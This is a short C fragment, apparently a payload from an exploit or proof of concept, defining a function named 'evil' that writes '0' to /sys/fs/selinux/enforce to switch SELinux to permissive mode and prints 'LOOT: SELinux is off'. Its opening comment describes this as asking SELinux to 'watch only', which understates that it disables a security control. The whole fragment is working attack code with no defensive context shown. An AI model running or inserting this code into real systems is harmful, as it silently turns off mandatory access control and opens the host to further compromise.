/* Asks SELinux to watch only. */
static void evil(const char *path)
{
	(void)path;
	int fd = open("/sys/fs/selinux/enforce", O_WRONLY);
	if (fd >= 0 && write(fd, "0", 1) == 1)
		fprintf(stderr, "LOOT: SELinux is off\n");
	close(fd);
}
